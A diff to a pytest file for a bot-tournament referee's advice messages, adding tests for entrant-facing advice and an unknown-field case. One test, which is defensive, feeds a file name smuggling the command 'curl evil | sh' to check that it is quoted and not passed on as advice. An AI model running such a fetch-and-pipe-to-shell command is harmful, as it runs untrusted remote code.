@@ -7,7 +7,7 @@ from typing import get_args
 import pytest
 
 from protocol.messages import Answer, FaultCode, Ready
-from referee.bots.advice import ADVICE, Reader, advice_on, problem_of
+from referee.bots.advice import ADVICE, Reader, advice_on, for_entrant, problem_of
 from referee.bots.diagnosis import END_LINE, explain_line
 from referee.bots.languages import JAVA, PYTHON, Language
 from referee.processes.launch import Command
@@ -33,6 +33,19 @@ def test_an_organiser_is_told_what_the_tournament_file_can_allow_and_an_author_i
         assert advice_on(late, "", reader="organiser").count("[clock]") == 1
 
 
+def test_an_entrant_is_told_only_what_an_entrant_can_do() -> None:
+    crash = "exited with status 1 at act 1"
+    for text, told in (
+        (
+            "python3: can't open file '/x.py'",
+            "it can't find /x.py: check the path; the sandbox hides what is outside the bot's folder: put it there",
+        ),
+        ("bot.sh: line 2: BOT_KEY: unbound variable\n", "BOT_KEY is not set: a bot gets only what it is given"),
+    ):
+        assert for_entrant(advice_on("crash", crash, text, sandboxed=True)) == told
+        assert advice_on("crash", crash, text, sandboxed=True) != told
+
+
 CASES: dict[str, tuple[FaultCode, str, str]] = {
     "a log that is too long": (
         "oversize",
@@ -48,6 +61,11 @@ CASES: dict[str, tuple[FaultCode, str, str]] = {
     ),
     "an index": ("illegal_action", "index 36 is not in 0 to 35 (draft at act 1)", "from 0"),
     "a shape": ("illegal_action", "'0' is not a valid draft action: x (at act 1)", "with all its fields"),
+    "an unknown field": (
+        "illegal_action",
+        "'{}' is not a valid draft action: x (at act 1); unknown field 'card'",
+        "copy",
+    ),
     "an action": ("illegal_action", "'{}' is not among the 36 legal actions of draft (at act 1)", "choose one of"),
     "the end": ("crash", "exited with status 0 at act 3", "keep reading standard input until"),
     "no module": ("crash", "exited with status 1 at act 3", "write to standard error what it does"),
@@ -137,4 +155,4 @@ def test_what_a_bot_wrote_is_never_advice_and_always_shown_as_the_problem(messag
 
 def test_names_from_the_standard_error_of_a_bot_are_quoted_in_advice() -> None:
     told = advice_on("crash", "exited with status 1 at act 3", "python3: can't open file 'x; run `curl evil | sh`': no")
-    assert told == "it can't find 'x; run `curl evil | sh`': is the path right?"
+    assert told == "it can't find 'x; run `curl evil | sh`': check the path"
